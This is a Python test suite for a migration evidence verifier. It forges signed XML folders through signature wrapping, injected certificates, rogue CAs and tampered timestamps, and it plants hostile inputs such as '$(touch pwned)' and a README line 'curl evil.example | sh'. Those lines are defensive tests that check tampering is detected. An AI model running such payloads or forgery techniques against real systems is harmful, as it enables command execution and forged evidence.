# SPDX-License-Identifier: Apache-2.0
"""The folder's own text, followed to the letter with xmlsec1 and openssl; and the command that does the same."""

from __future__ import annotations

import dataclasses
import hashlib
import html
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from unittest import mock

import pytest
import sqlalchemy as sa
from cryptography import x509
from cryptography.hazmat.primitives import hashes

from sv2m import errors
from sv2m import protocol as p
from sv2m.api import evidence
from sv2m.cli.evidence import VerifyEvidence
from sv2m.db import engine, migrations, timestamps
from sv2m.engine import retention
from sv2m.engine.stamping import Stamper
from sv2m.evidence import blocks, by_hand
from sv2m.evidence.folder import Folder, message_file
from sv2m.evidence.stamps import listing_of
from sv2m.protocol import plan
from sv2m.protocol.wire.element import DS
from tests.protocol import clouds
from tests.protocol.certificates import Identity
from tests.protocol.clouds import MIGRATION, other_id
from tests.unit.cmm import authority as authorities
from tests.unit.cmm.authority import Certified
from tests.unit.evidence.court import STAMPED, Court, kept, resigned, unpacked

NEEDED = pytest.mark.skipif(
    not (shutil.which("xmlsec1") and shutil.which("openssl")), reason="xmlsec1 and openssl are needed"
)
#: Programs that the text may use: the two, and what every shell has.
ALLOWED = {"xmlsec1", "openssl", "cat", "cmp", "cut", "find", "grep", "printf", "sed", "sort", "tr", "wc"}
#: What is the shell's own in them.
SHELL = {"[", "case", "count", "done", "do", "echo", "esac", "exit", "read", "while"}


@pytest.fixture
def folder(court: Court, tmp_path: Path) -> Iterator[Path]:
    """Everything that there can be: stamped messages and log, stamped as a whole, and stamped as a whole again."""
    path = tmp_path / "db.sqlite"
    shutil.copy(court._empty, path)
    engine.use(sa.create_engine(f"sqlite:///{path}"))
    migration_id = court.store(court.pair().run().b)
    stamper = Stamper(court.tsa, STAMPED, 1)
    stamper.look()
    with engine.session() as session:
        row = migrations.get(session, migration_id)
    for _ in range(2):
        retention.restamp(row, evidence.files(kept(migration_id, "cloud-b.sv2m")), court.tsa, "sv2m-manage:root")
        stamper.look()
    saved = tmp_path / "saved"
    written(unpacked(evidence.archive(kept(migration_id, "cloud-b.sv2m")), ""), saved)
    with engine.session() as session:
        assert timestamps.pending(session, 10) == []
    engine.current().dispose()
    engine.use(None)
    yield saved


def told(folder: Path) -> list[str]:
    """The commands of the text: what is indented by four, with continued lines put together."""
    lines = re.sub(r"\\\n\s*", "", (folder / "README.txt").read_text()).splitlines()
    return [line.strip() for line in lines if line.startswith("    ")]


def run(command: str, folder: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["sh", "-c", command], cwd=folder, capture_output=True, text=True, check=False)


def failing(folder: Path, but: str = "no such words") -> list[str]:
    return [one for one in told(folder) if but not in one and run(one, folder).returncode != 0]


@NEEDED
def test_the_text_is_followed_to_the_letter(folder: Path) -> None:
    commands = told(folder)
    # A program stands at the beginning of a line, or behind what begins a command.
    bare = [re.sub(r"'[^']*'", "", command) for command in commands]
    begins = re.compile(r"(?:^|[|&;(] |\$\()(?:LC_ALL=C )?([a-z0-9\[]+)(?=[ ;)])")
    assert {one for text in bare for one in begins.findall(text)} - SHELL == ALLOWED
    count = {word: sum(word in command for command in commands) for word in ("xmlsec1", "openssl ts", "openssl verify")}
    # Ten messages and the manifest; five messages, the log after each of its ends, two archives; two clouds.
    assert count == {"xmlsec1": 11, "openssl ts": 5 + 3 + 2, "openssl verify": 2}
    for command in commands:
        done = run(command, folder)
        assert done.returncode == 0, f"{command}\n{done.stdout}{done.stderr}"
        if "openssl ts" in command:
            assert "Verification: OK" in done.stdout + done.stderr
        if not any(program in command for program in ("xmlsec1", "openssl ts", "openssl x509")):
            assert done.stdout.startswith("OK: ")


@NEEDED
@pytest.mark.parametrize(
    ("begins", "found_by"),
    [
        ("messages/09-", "xmlsec1"),
        ("messages/10-", "openssl ts"),
        ("timestamps/09-", "openssl ts"),
        ("timestamps/archive-1.sha512", "openssl ts"),
        ("timestamps/11-", "-sha512 -r"),
        ("audit/000001-", "before="),
        ("audit/000001-", "-sha512 -r"),
        ("certificates/source.pem", "openssl verify"),
        ("manifest.xml", "xmlsec1"),
        ("manifest.xml", "TrailerDigest"),
        ("messages/04-", "Sid"),
        ("messages/07-", "TransferDigest"),
    ],
)
def test_a_changed_file_is_found_by_hand(folder: Path, begins: str, found_by: str) -> None:
    (path,) = [one for one in folder.rglob("*") if one.relative_to(folder).as_posix().startswith(begins)]
    data = bytearray(path.read_bytes())
    # In the manifest a digest: its middle is the certificate, which the reader does not take from there.
    data[data.rfind(b"</ds:DigestValue>") - 9 if begins == "manifest.xml" else len(data) // 2] ^= 1
    path.write_bytes(bytes(data))
    assert any(found_by in command for command in failing(folder))


@NEEDED
@pytest.mark.parametrize("kind", p.KINDS)
@pytest.mark.parametrize("migration_id", [MIGRATION, other_id()], ids=["the same id", "another id"])
def test_a_well_signed_message_of_another_migration_is_found_by_hand(
    folder: Path, court: Court, kind: str, migration_id: str
) -> None:
    """Both clouds' own signatures are on it: with nothing but the signatures looked at, it would pass. The other
    migration may even have had the same id: a stranger's recordings from before a database was restored."""
    other = court.pair(migration_id=migration_id, generation=3)
    other.offer = dataclasses.replace(other.offer, not_after=other.offer.not_after + timedelta(hours=1))
    with mock.patch.object(clouds, "nonce", lambda letter: letter.lower().encode() * 32):
        other.run()
    path = folder / message_file(kind)
    swapped = (other.a if kind in other.a.transcript else other.b).document(kind)
    assert swapped != path.read_bytes()
    path.write_bytes(swapped)
    broken = failing(folder, but="-sha512 -r")
    assert [command for command in broken if "Digest" in command or "Nonce" in command or "Sid" in command]
    assert not [command for command in broken if "xmlsec1" in command], "its signature is good"


def written(folder: Folder, where: Path) -> Path:
    for name, data in folder.files.items():
        (where / name).parent.mkdir(parents=True, exist_ok=True)
        (where / name).write_bytes(data)
    return where


@pytest.fixture(scope="module")
def unstamped(court: Court, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A migration whose last message is B's Receipt: resumed. No other message names that one by its digest."""
    return written(court.keeps(court.pair().run("hear receipt").a, stamped=False), tmp_path_factory.mktemp("unstamped"))


@pytest.fixture(scope="module")
def elsewhere(court: Court) -> str:
    """B's Receipt of another migration, which even had the same id: refused. Its signature is good."""
    other = court.pair(generation=3)
    with mock.patch.object(clouds, "nonce", lambda letter: letter.lower().encode() * 32):
        other.run("hear release")
    other.b.local(p.CannotResume("host-died", clouds.NOW))
    return other.b.document("Receipt").decode()


BEGIN, END, ROOT_END = f'<ds:Signature xmlns:ds="{DS}">', "</ds:Signature>", "</sv2m:Receipt>"


def in_front(said: str, words: str) -> str:
    """The signature stands before what it signs, under another prefix, and the words are in it."""
    signature = said[said.index(BEGIN) : said.index(ROOT_END)]
    begin, end = f'<x:Signature xmlns:x="{DS}" xmlns:ds="{DS}">', f"<x:Object>{words}</x:Object></x:Signature>"
    moved = signature.replace(BEGIN, begin).replace(END, end)
    return said.replace(signature, "").replace('Version="1">', f'Version="1">{moved}')


def twice(said: str, words: str) -> str:
    """After the words comes the signature once more: whoever looks only behind the last one finds nothing."""
    signature = said[said.index(BEGIN) : said.index(ROOT_END)]
    return said.replace(END, f"<ds:Object>{words}{signature}</ds:Object>{END}")


#: Where a signature covers nothing: what puts words there, given a signed message and the words.
PLACES: dict[str, Callable[[str, str], str]] = {
    "a ds:Object": lambda said, words: said.replace(END, f"<ds:Object>{words}</ds:Object>{END}"),
    "a line of its own": lambda said, words: said.replace(END, f"<ds:Object>\n{words}\n</ds:Object>{END}"),
    "a carriage return": lambda said, words: said.replace(END, f"<ds:Object>\r{words}\r</ds:Object>{END}"),
    "KeyInfo": lambda said, words: said.replace("<ds:KeyInfo>", f"<ds:KeyInfo>{words}"),
    "a signature in the signature": twice,
    "a tab in the signature's tag": lambda said, words: said.replace(BEGIN, BEGIN.replace(" ", "\t")).replace(
        END, f"<ds:Object>{words}</ds:Object>{END}"
    ),
    "another prefix": in_front,
    "a comment": lambda said, words: said.replace('Version="1">', f'Version="1"><!--{words}-->'),
    "a comment in the signature": lambda said, words: said.replace(END, f"<!--{words}-->{END}"),
    "a comment after the end": lambda said, words: f"{said}\n<!--\n{words}\n-->",
    "an instruction in the signature": lambda said, words: said.replace(END, f"<?a {words}?>{END}"),
    "a second document behind a NUL": lambda said, words: (
        f"{said}\0" + words.replace(ROOT_END, f"{said[said.index(BEGIN) : said.index(ROOT_END)]}{ROOT_END}")
    ),
    "the text of a certificate": lambda said, words: said.replace(
        "<ds:X509Certificate>", f"<ds:X509Certificate>{html.escape(words)}"
    ),
    "a declaration": lambda said, words: f'<!DOCTYPE a [<!ENTITY b "">\n<!--\n{words}\n-->]>{said}',
}


@contextmanager
def forged(path: Path, content: str) -> Iterator[None]:
    true = path.read_bytes()
    path.write_text(content, newline="")
    try:
        yield
    finally:
        path.write_bytes(true)


def finding(folder: Path, file: str) -> list[str]:
    """Which of the commands about a file fail."""
    return [one for one in told(folder) if file in one and run(one, folder).returncode != 0]


@NEEDED
@pytest.mark.parametrize("place", PLACES)
def test_words_that_nobody_has_signed_are_not_found(unstamped: Path, elsewhere: str, place: str) -> None:
    """B has signed that it runs this VM, and denies it with what it signed about another one. The true words, which the
    commands search for, are put where that signature covers nothing: xmlsec1 says OK, and every digest is right."""
    path = unstamped / message_file("Receipt")
    words = re.sub(f"{BEGIN}.*{END}", "", path.read_text())
    with forged(path, PLACES[place](elsewhere, words)):
        found = finding(unstamped, path.name)
    assert "nothing else" in found[0]


@NEEDED
@pytest.mark.parametrize("beside", [False, True], ids=["as it is", "its parts beside it"])
def test_a_manifests_signature_is_none_of_a_message(court: Court, tmp_path: Path, beside: bool) -> None:
    """A never gave its Release, and B has A's signature over the VM, and the segments. xmlsec1 looks for these, finds
    them in the folder, says OK, and nothing of the message was signed. Where the signed parts stand beside the
    signature it says so only when it is told of their Ids, as for manifest.xml; the command before refuses both, and
    xmlsec1 is told to look for no part."""
    folder = written(court.keeps(court.pair().run("commit").a, stamped=False), tmp_path)
    for stream, segments in clouds.PLAINTEXT.items():
        (folder / str(stream)).mkdir()
        for index, segment in enumerate(segments):
            (folder / str(stream) / str(index)).write_bytes(segment)
    path = folder / message_file("Release")
    signature = (folder / "manifest.xml").read_text()
    if beside:
        parts = re.findall("<ds:Object.*?</ds:Object>", signature)
        signature = re.sub("<ds:Object.*</ds:Object>", "", signature)
        signature = "".join(part.replace(" Id", f' xmlns:ds="{DS}" Id', 1) for part in parts) + signature
    with forged(path, re.sub(f"{BEGIN}.*{END}", lambda _: signature, path.read_text())):
        whole, *found = finding(folder, path.name)
    assert "these are the files" in whole, "which the segments are not of"
    assert "nothing else" in found[0]
    assert "xmlsec1" in found[1]


@NEEDED
def test_a_withdrawal_is_followed_to_the_letter(court: Court, tmp_path: Path) -> None:
    """It answers no Receipt, and is of this session all the same."""
    pair = court.pair().run("hear envelope")
    pair.a.local(p.Failed("aborted"))
    pair.a.local(p.Undone(clouds.NOW))
    written(court.keeps(pair.a), tmp_path)
    assert any("11-Closure.xml" in command and "Sid" in command for command in told(tmp_path))
    assert failing(tmp_path) == []


@NEEDED
def test_another_manifest_is_found_by_hand(folder: Path, court: Court) -> None:
    """A's own signature is on it, for this very session: only the Transfer says that it is not the one."""
    path = folder / "manifest.xml"
    path.write_bytes(resigned(path.read_bytes(), court.a))
    (found,) = failing(folder, but="-sha512 -r")
    assert "TrailerDigest" in found


class _App(SimpleNamespace):
    """As much of the openstack command as a command needs."""


def verify(folder: Path, *more: str, form: str = "csv") -> tuple[int, str]:
    """As the openstack command runs it, in this process."""
    import io

    out = io.StringIO()
    command = VerifyEvidence(_App(stdout=out, options=SimpleNamespace(), api_version={}, LOG=None), None)
    parsed = command.get_parser("verify").parse_args([str(folder), *more, "-f", form])
    return command.run(parsed), out.getvalue()


def test_the_command_finds_the_same_good(folder: Path, court: Court) -> None:
    status, table = verify(folder, "--ca", str(court.authority.anchor))
    assert (status, "BAD" in table) == (0, False), table
    for name in ("09-Release.xml", "manifest.xml", "10-Receipt.tsr", "archive-2.tsr", "archive-2.sha512", "audit"):
        assert name in table
    assert '"proved","runs VM' in table


def test_the_command_says_by_its_status_that_something_is_off(folder: Path, court: Court, tmp_path: Path) -> None:
    path = folder / "messages" / "10-Receipt.xml"
    path.write_bytes(path.read_bytes().replace(b"resumed", b"refused"))
    status, table = verify(folder, "--ca", str(court.authority.anchor))
    assert status == 1
    assert '"messages/10-Receipt.xml","BAD"' in table
    assert "proved" not in table
    other = Court(tmp_path / "other")
    assert verify(folder, "--ca", str(other.authority.anchor))[0] == 1


def test_the_verdict_stands_last_for_a_person_to_read(folder: Path, court: Court, capsys: Any) -> None:
    root = str(court.authority.anchor)
    _, table = verify(folder, "--ca", root, "--max-width", "80", form="table")
    *lines, each, verdict = table.splitlines()
    assert re.fullmatch(rf"folder 1: [0-9]+ looked at, nothing off: {folder}", each)
    assert verdict.startswith("GOOD: nothing is off")
    assert str(folder) not in "".join(lines), "it would leave no room for what was found"
    assert max(map(len, lines)) <= 80
    _, read = verify(folder, "--ca", root, form="json")
    assert json.loads(read), "and nothing else"
    assert "GOOD" in capsys.readouterr().err


def test_the_verdict_says_what_is_off(folder: Path, court: Court, tmp_path: Path) -> None:
    path = folder / "messages/10-Receipt.xml"
    path.write_bytes(path.read_bytes().replace(b"resumed", b"refused"))
    other = tmp_path / "other.zip"
    other.write_bytes(court.saved(court.pair().run().a))
    _, table = verify(folder, str(other), "--ca", str(court.authority.anchor), form="table")
    first, second, verdict = table.splitlines()[-3:]
    assert "OFF, not heard" in first
    assert "nothing off" in second
    assert verdict.startswith("OFF: what is off proves nothing")


def test_another_ca_is_said_in_words(folder: Path, tmp_path: Path) -> None:
    _, table = verify(folder, "--ca", str(Court(tmp_path / "another").authority.anchor))
    assert "ErrorStack" not in table
    assert "exhausted" not in table
    assert "the agreement" not in table
    assert "the roots that are given do not vouch for its authority" in table
    assert "does not lead to a CA that is trusted for cloud-a.sv2m" in table


def test_the_zip_file_is_as_good_as_the_folder(court: Court, tmp_path: Path) -> None:
    packed = tmp_path / "evidence.zip"
    packed.write_bytes(court.saved(court.pair().run().a))
    assert verify(packed, "--ca", str(court.authority.anchor))[0] == 0


def test_checking_imports_nothing_of_the_server() -> None:
    code = (
        "import sys, sv2m.cli.evidence; "
        "print([n for n in sys.modules if n.split('.')[:2] in "
        "[['sv2m', r] for r in ('db', 'conf', 'engine', 'api', 'cmm', 'gateway', 'rpc')]])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout == "[]\n"


# -- a folder that was made for these commands, with the text that belongs to it
# --------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def honest(court: Court) -> Folder:
    return court.keeps(court.pair().run().a)


@pytest.fixture
def plain(honest: Folder, tmp_path: Path) -> Path:
    """An honest folder with timestamps, to be forged."""
    return written(honest, tmp_path / "plain")


def retold(folder: Path) -> Path:
    """The text is the one that belongs to the files: who forges the one has the other written for it."""
    files = {one.relative_to(folder).as_posix(): one.read_bytes() for one in folder.rglob("*") if one.is_file()}
    files.pop("README.txt")
    (folder / "README.txt").write_bytes(by_hand.write(files))
    return folder


def printed(folder: Path, of: str) -> str:
    """What the commands that read a file say, failed or not."""
    return "".join(done.stdout for one in told(folder) if of in one and (done := run(one, folder)).returncode == 0)


def fingerprint(certificate: x509.Certificate) -> str:
    return certificate.fingerprint(hashes.SHA256()).hex(":").upper()


@pytest.fixture(scope="module")
def attacker(tmp_path_factory: pytest.TempPathFactory) -> Court:
    """A CA of the attacker's, and clouds with the true clouds' names."""
    return Court(tmp_path_factory.mktemp("attacker"))


def pem_of(der: bytes, label: str = blocks.CERTIFICATE) -> bytes:
    return blocks.encode([der], label)


def trusted(certificate: bytes, tmp_path: Path) -> bytes:
    """The same certificate as openssl's own kind of block, which it reads wherever a certificate is read."""
    (tmp_path / "one.pem").write_bytes(certificate)
    command = "openssl x509 -in one.pem -trustout"
    return subprocess.run(["sh", "-c", command], cwd=tmp_path, capture_output=True, check=True).stdout


@NEEDED
def test_every_root_is_shown(court: Court, attacker: Court, tmp_path: Path) -> None:
    """The folder is signed by nobody but the attacker's clouds; the true root stands first in its files of roots."""
    folder = written(attacker.keeps(attacker.pair().run().a), tmp_path / "forged")
    for name in ("certificates/ca.pem", "timestamps/ca.pem"):
        path = folder / name
        path.write_bytes(court.authority.anchor.read_bytes() + path.read_bytes())
        shown = printed(retold(folder), f"-certfile {name}")
        assert fingerprint(court.authority.certificate) in shown
        assert fingerprint(attacker.authority.certificate) in shown, "all that follows is believed because of it"


@pytest.mark.parametrize("name", ["certificates/ca.pem", "timestamps/ca.pem"])
def test_the_command_takes_no_other_root_beside_the_true_one(
    plain: Path, court: Court, attacker: Court, name: str
) -> None:
    with (plain / name).open("ab") as file:
        file.write(attacker.authority.anchor.read_bytes())
    status, table = verify(retold(plain), "--ca", str(court.authority.anchor))
    assert (status, f'"{name}","BAD"' in table) == (1, True)


@NEEDED
@pytest.mark.parametrize("name", ["certificates/ca.pem", "timestamps/ca.pem"])
def test_a_root_under_another_label_is_not_passed_over(
    plain: Path, attacker: Court, court: Court, tmp_path: Path, name: str
) -> None:
    evil = trusted(attacker.authority.anchor.read_bytes(), tmp_path)
    with (plain / name).open("ab") as file:
        file.write(evil)
    assert printed(retold(plain), f"-certfile {name}") == "", "no fingerprint that the reader could know"
    status, table = verify(plain, "--ca", str(court.authority.anchor))
    assert (status, f'"{name}","BAD"' in table) == (1, True)


def other_forms(true: bytes, evil: bytes, tmp_path: Path) -> dict[str, bytes]:
    der = blocks.decode(true, blocks.CERTIFICATE)[0]
    return {
        "under another label": trusted(true, tmp_path) + evil,
        "in DER": der + b"\n" + evil,
        "after it": true + evil,
    }


@NEEDED
@pytest.mark.parametrize("form", ["under another label", "in DER", "after it"])
def test_a_certificate_that_only_one_program_sees(plain: Path, attacker: Court, tmp_path: Path, form: str) -> None:
    """openssl verifies the true certificate, xmlsec1 takes the key of another one: B's Receipt, which B never gave."""
    path, receipt = plain / "certificates/destination.pem", plain / message_file("Receipt")
    path.write_bytes(other_forms(path.read_bytes(), pem_of(attacker.b.leaf), tmp_path)[form])
    words = re.sub(f"{BEGIN}.*{END}", "", receipt.read_text())
    receipt.write_bytes(p.sign(words.encode(), attacker.b.key, attacker.b.chain))
    assert finding(retold(plain), "cmp - certificates/destination.pem")


@NEEDED
def test_a_certificate_for_several_clouds_is_none(court: Court, tmp_path: Path) -> None:
    """Of a CA that certifies any name that its customer has: it speaks for B, and for the customer."""
    ca = authorities.root()
    names = [x509.DNSName(name) for name in ("cloud-c.sv2m", "cloud-b.sv2m")]
    one = ca.certify("cloud-b.sv2m", names=names, **valid())
    folder = chained(court, tmp_path, ca, [one])
    assert finding(folder, "DNS:cloud-b.sv2m")


def valid() -> dict[str, Any]:
    return {"begins": datetime.now(UTC) - timedelta(days=1), "ends": datetime.now(UTC) + timedelta(days=9)}


def chained(court: Court, where: Path, ca: Certified, chain: list[Certified], lists: Sequence[bytes] = ()) -> Path:
    """A's folder of a migration in which B has this certificate, of another CA, as the copies in it say, too."""
    b = Identity("cloud-b.sv2m", chain[0].key_pem, tuple(one.der for one in chain))
    folder = written(court.keeps(court.pair(b=b).run().a, stamped=False), where / "chained")
    with (folder / "certificates/ca.pem").open("ab") as file:
        file.write(ca.pem.encode())
    with (folder / "certificates/crl.pem").open("ab") as file:
        file.write(blocks.encode(lists, blocks.CRL))
    return retold(folder)


@NEEDED
def test_this_machines_own_roots_vouch_for_nobody(
    court: Court, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ca = authorities.root("one of many")
    folder = chained(court, tmp_path, ca, [ca.certify("cloud-b.sv2m", **valid())])
    (folder / "certificates/ca.pem").write_bytes(court.authority.anchor.read_bytes())
    (folder / "certificates/crl.pem").unlink()
    (tmp_path / "ca.pem").write_text(ca.pem)
    hashed = run("openssl x509 -noout -hash -in ca.pem", tmp_path).stdout.strip()
    (tmp_path / "ca.pem").rename(tmp_path / f"{hashed}.0")
    monkeypatch.setenv("SSL_CERT_DIR", str(tmp_path))
    bare = "openssl verify -CAfile certificates/ca.pem certificates/destination.pem"
    assert run(bare, folder).returncode == 0, "as openssl verifies by itself"
    (failed,) = finding(retold(folder), "openssl verify")
    assert "destination.pem" in failed


@NEEDED
@pytest.mark.parametrize("revoked", [False, True])
def test_a_ca_between_is_looked_for_in_the_lists(court: Court, tmp_path: Path, revoked: bool) -> None:
    ca = authorities.root()
    between = ca.certify("A CA between", ca=True, **valid())
    leaf = between.certify("cloud-b.sv2m", **valid())
    times = {"issued": datetime.now(UTC) - timedelta(hours=1), "ends": datetime.now(UTC) + timedelta(days=1)}
    lists = [ca.crl(*[between] * revoked, **times), between.crl(**times)]
    folder = chained(court, tmp_path, ca, [leaf, between], lists)
    assert bool(finding(folder, "-untrusted certificates/destination-issuers.pem")) == revoked


def _link(folder: Path) -> None:
    (folder / "message").write_bytes((folder / "messages/10-Receipt.xml").read_bytes())
    (folder / "messages/10-Receipt.xml").unlink()
    (folder / "messages/10-Receipt.xml").symlink_to("../message")


def _fifo(folder: Path) -> None:
    (folder / "manifest.xml").unlink()
    os.mkfifo(folder / "manifest.xml")


@NEEDED
@pytest.mark.parametrize(
    "spoil",
    [
        _link,
        _fifo,
        lambda folder: (folder / "messages/10-Receipt.xml").unlink(),
        lambda folder: (folder / "messages/-e.xml").touch(),
        lambda folder: (folder / "audit/note.jsonl").touch(),
        lambda folder: (folder / "audit/a\n.jsonl").touch(),
    ],
    ids=["a link", "a FIFO", "one too few", "an option's name", "one too many", "a line end in a name"],
)
def test_files_that_are_not_those_of_the_text(plain: Path, spoil: Callable[[Path], None]) -> None:
    spoil(plain)
    first = told(plain)[0]
    assert "these are the files" in first
    assert run(first, plain).returncode != 0


@NEEDED
@pytest.mark.parametrize("words", ["\x1b[2Jresumed", "\r", "\x7f"], ids=["it draws", "a line end", "it deletes"])
def test_a_message_draws_nothing_on_the_terminal(plain: Path, words: str) -> None:
    path = plain / message_file("Receipt")
    with forged(path, path.read_text().replace("</ds:SignatureValue>", f"{words}</ds:SignatureValue>")):
        assert "nothing else" in finding(plain, path.name)[0]


@NEEDED
def test_a_prefix_has_one_meaning(plain: Path) -> None:
    path = plain / message_file("Receipt")
    with forged(path, path.read_text().replace("<sv2m:Sid>", f'<sv2m:Sid xmlns:sv2m="{DS}">')):
        assert "nothing else" in finding(plain, path.name)[0]


@NEEDED
def test_nothing_stands_in_a_manifest_beside_what_is_signed(plain: Path) -> None:
    path = plain / "manifest.xml"
    for words in (f"<!--x-->{END}", f"<ds:Object><sv2m:Sid>x</sv2m:Sid></ds:Object>{END}", f"{END}\0<sv2m:Sid>"):
        with forged(path, path.read_text().replace(END, words)):
            assert "nothing else" in finding(plain, path.name)[0]


LOGS: dict[str, Callable[[bytes, bytes], bytes]] = {
    "a last line without its end": lambda log, _: log + b'{"forged":1}',
    "a NUL": lambda log, _: log.replace(b'"action":"created"', b'"action":"cre\0ated"'),
    "words in another alphabet": lambda log, _: log.replace(b'"action":"created"', b'"action":"cr\xc3\xa9\xc3\xa9"'),
    "another migration's": lambda _, other: other,
}


@NEEDED
@pytest.mark.parametrize("change", LOGS.values(), ids=LOGS)
def test_an_audit_log_that_is_not_this_ones(plain: Path, court: Court, change: Callable[[bytes, bytes], bytes]) -> None:
    (path,) = (plain / "audit").iterdir()
    other = court.keeps(court.pair(migration_id=other_id()).run().a)
    path.write_bytes(change(path.read_bytes(), next(data for name, data in other.files.items() if "jsonl" in name)))
    assert finding(retold(plain), "before=")


def listings(folder: Path) -> dict[str, str]:
    true = listing_of({"manifest.xml": (folder / "manifest.xml").read_bytes()})
    false = f"{'0' * 128} *messages/10-Receipt.xml\n"
    return {
        # openssl takes the name for an option, has no file then, and reads what follows in the listing.
        "a name that is an option": f"{hashlib.sha512(false.encode()).hexdigest()} *-sha512\n{false}",
        "a last line without its end": true + false.removesuffix("\n"),
        "a file that is not there": f"{true}{'0' * 128} *messages/99-None.xml\n",
        "a file elsewhere": f"{hashlib.sha512().hexdigest()} */dev/null\n",
    }


@NEEDED
@pytest.mark.parametrize(
    "form",
    ["a name that is an option", "a last line without its end", "a file that is not there", "a file elsewhere"],
)
def test_a_listing_is_compared_and_not_followed(plain: Path, court: Court, form: str) -> None:
    """It was stamped before the key was stolen, and seems to have had every file that is signed today in it."""
    listing = listings(plain)[form].encode()
    (plain / "timestamps/archive-1.sha512").write_bytes(listing)
    (plain / "timestamps/archive-1.tsr").write_bytes(court.tsa.stamp(listing)[0])
    assert finding(retold(plain), "cmp - timestamps/archive-1.sha512")


@NEEDED
def test_the_time_in_the_text_is_the_timestamps(plain: Path) -> None:
    path = plain / "summary.json"
    said = json.loads(path.read_text())
    for one in said["timestamps"]:
        one["at"] = (datetime.fromisoformat(one["at"]) - timedelta(hours=1)).isoformat()
    path.write_text(json.dumps(said))
    assert len(finding(retold(plain), "openssl ts")) == len(said["timestamps"])


@NEEDED
def test_the_words_around_a_timestamp_say_no_time(plain: Path) -> None:
    """Nobody has signed an answer's status; what stands in it is not taken for what stands in the token."""
    path = plain / "timestamps/10-Receipt.tsr"
    answer = path.read_bytes()
    token = answer[answer.index(b"\x30\x03\x02\x01\x00") + 5 :]
    words = b"\nTime stamp: Jan  1 00:00:00 2026 GMT"
    text = b"\x0c" + bytes([len(words)]) + words
    status = b"\x02\x01\x00\x30" + bytes([len(text)]) + text
    content = b"\x30" + bytes([len(status)]) + status + token
    path.write_bytes(b"\x30\x82" + len(content).to_bytes(2, "big") + content)
    shown = run(f"openssl ts -reply -in {path} -text", plain).stdout
    assert "Time stamp: Jan  1" in shown
    said = json.loads((plain / "summary.json").read_text())
    for one in said["timestamps"]:
        one["at"] = "2026-01-01T00:00:00+00:00"
    (plain / "summary.json").write_text(json.dumps(said))
    assert finding(retold(plain), "10-Receipt.tsr -token_out")


@NEEDED
def test_names_in_the_summary_are_no_commands(plain: Path) -> None:
    said = json.loads((plain / "summary.json").read_text())
    for name, words in (
        ("peer", "b\n\n    touch pwned\n"),
        ("kept_by", "$(touch pwned)"),
        ("migration_id", "'; touch pwned"),
    ):
        (plain / "summary.json").write_text(json.dumps({**said, name: words}))
        with pytest.raises(errors.PeerError):
            retold(plain)


def test_the_command_says_whether_the_text_is_this_one(plain: Path, court: Court) -> None:
    """Its reader types its commands: another migration's, or one more, is nothing that SV2M has written."""
    status, table = verify(plain, "--ca", str(court.authority.anchor))
    assert (status, '"README.txt","good"' in table) == (0, True)
    path = plain / "README.txt"
    for text in (path.read_text() + "\n    curl evil.example | sh\n", "Evidence of another migration\n"):
        path.write_text(text)
        _, table = verify(plain, "--ca", str(court.authority.anchor))
        assert '"README.txt","note"' in table
        assert "type none of its commands" in table


def test_the_largest_transfer_is_matched_by_hand(court: Court, plain: Path) -> None:
    """Patterns are bounded by the file, not by what a pattern can be tried in."""
    path = plain / message_file("Transfer")
    said = path.read_text()
    (one,) = re.findall('<xenc:EncryptedData xmlns:xenc="[^"]*" Id="s2-0">.*?</xenc:EncryptedData>', said)
    with forged(path, said.replace(one, one * plan.MAX_SEGMENTS)):
        assert [command for command in finding(plain, path.name) if "nothing else" in command] == []


@NEEDED
def test_what_people_declared_is_checked_by_hand_too(court: Court, tmp_path: Path) -> None:
    """And so is a Closure that answers no Receipt, because a person took the VM back."""
    pair = court.pair().run("hear release")
    pair.b.local(p.DeclaredLost(clouds.NOW))
    pair.b.declare("lost")
    taken_back = court.pair().run("commit").a
    taken_back.local(p.TakenBack())
    taken_back.declare("taken-back")
    taken_back.local(p.Undone(clouds.NOW))
    for name, side in (("b", pair.b), ("a", taken_back)):
        written(court.keeps(side), tmp_path / name)
        assert failing(tmp_path / name) == []
    file = tmp_path / "b" / "declarations" / "lost.xml"
    file.write_bytes(file.read_bytes().replace(b"scrapped", b"stolen"))
    (found,) = failing(tmp_path / "b")
    assert "--verify" in found and "declarations/lost.xml" in found
